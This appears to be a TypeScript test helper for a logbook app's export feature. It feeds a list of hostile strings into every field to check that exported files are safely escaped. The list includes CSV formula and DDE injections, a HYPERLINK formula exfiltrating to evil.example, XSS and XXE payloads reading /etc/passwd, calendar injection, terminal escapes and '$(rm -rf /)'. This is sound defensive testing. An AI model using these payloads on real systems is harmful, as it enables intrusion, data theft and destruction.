import type { Change } from '../../../../src/core/model/change';
import { isFolder } from '../../../../src/core/export/exporter';
import type { ExportContent, ExportInput } from '../../../../src/core/export/exporter';
import { exportWords } from '../../../../src/messages/export-words';
import { changeOf, snapshotOf, THRESHOLD } from './snapshots';

/** What a record may hold that some program would obey, or trip over. */
export const HOSTILE: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '<script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '<!-- --><svg onload=alert(1)>',
  ']]><script>alert(1)</script><![CDATA[',
  '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
  '&amp; &lt;b&gt; &#60; &xxe;',
  '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  'Title\n\nSigned-off-by: Mallory <m@evil.example>',
  '[x](javascript:alert(1))',
  '[x](command:workbench.action.quit)',
  '[x](vbscript:x) [y](data:text/html,<script>alert(1)</script>)',
  '![x](https://evil.example/p.png)',
  '<javascript:alert(1)>',
  '# heading\n\n- item\n\n```\ncode',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  'abc\u202etxt.exe\u2066\u2067\u2069',
  '\u001b[2J\u001b]0;owned\u0007 \u009b31m',
  'a\u0000b\u0008c\u007fd\u0085e\ufffef\uffff',
  'lone \ud800 and \udfff',
  'line\u2028separator\u2029x\u000by\u000cz',
  '{{ 7 | times: 7 }} {% assign x = 1 %}${7*7}',
  'x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE',
  'x\nATTACH:javascript:alert(1)',
  'a;b,c:d\\n"e"',
  '_x0041_ _x000D_',
  '$(rm -rf /) `id` %PATH%',
  'ไทย 日本語 👩‍👩‍👧 é',
  '   ',
];

/** A change all of whose texts are this one, in a logbook all of whose names are. */
export function hostileInput(text: string): ExportInput {
  const snapshot = snapshotOf({
    'logbook.yaml': JSON.stringify({
      format: 1,
      name: text,
      people: [{ id: 'ana', name: text, email: text }],
      audiences: [{ id: 'sales', name: text }],
      'custom-fields': [{ id: 'brief', name: text, type: 'text' }],
    }),
    'tools/marketo.yaml': JSON.stringify({
      id: 'marketo',
      name: text,
      vendor: text,
      category: text,
      contract: { renewal: '2027-01-31', notice: text, cost: text },
    }),
    'processes/lead-routing.yaml': JSON.stringify({ id: 'lead-routing', name: text }),
  });
  return { changes: [hostileChange(text)], snapshot, words: exportWords('en'), options: {} };
}

export function hostileChange(text: string): Change {
  return {
    ...changeOf(THRESHOLD),
    title: text,
    'status-reason': text,
    processes: ['lead-routing'],
    why: text,
    what: text,
    rollback: text,
    deadline: '2026-12-01',
    window: { start: '2026-11-20T09:00:00+01:00', end: '2026-11-20T10:00:00+01:00' },
    settings: [{ target: 'marketo', environment: text, path: text, from: text, to: [text] }],
    assets: [{ tool: 'marketo', type: text, name: text, url: text, note: text }],
    approvals: [{ role: text, by: text, due: '2026-11-30', evidence: text, note: text }],
    tests: [{ check: text, evidence: text }],
    communication: [{ audience: 'sales', do: text, message: text, channel: text }],
    training: [{ audience: 'sales', material: text, due: '2026-12-03' }],
    compliance: [{ law: text, because: text }],
    links: [text, { url: text, label: text }],
    brief: text,
  };
}

/** All that a format made as one text, byte by byte where it is none; a folder with the paths of its files. */
export async function textOf(content: ExportContent): Promise<string> {
  if (typeof content === 'string') return content;
  if (!isFolder(content)) return Buffer.from(content).toString('latin1');
  const parts: string[] = [];
  for await (const file of content.files) parts.push(file.path, await textOf(file.content));
  return parts.join('\n');
}

/** What is left of a text to read: without marks, white space and what nobody can see. */
export function lettersOf(text: string): string {
  return text.replace(/[^\p{L}\p{N}]/gu, '');
}
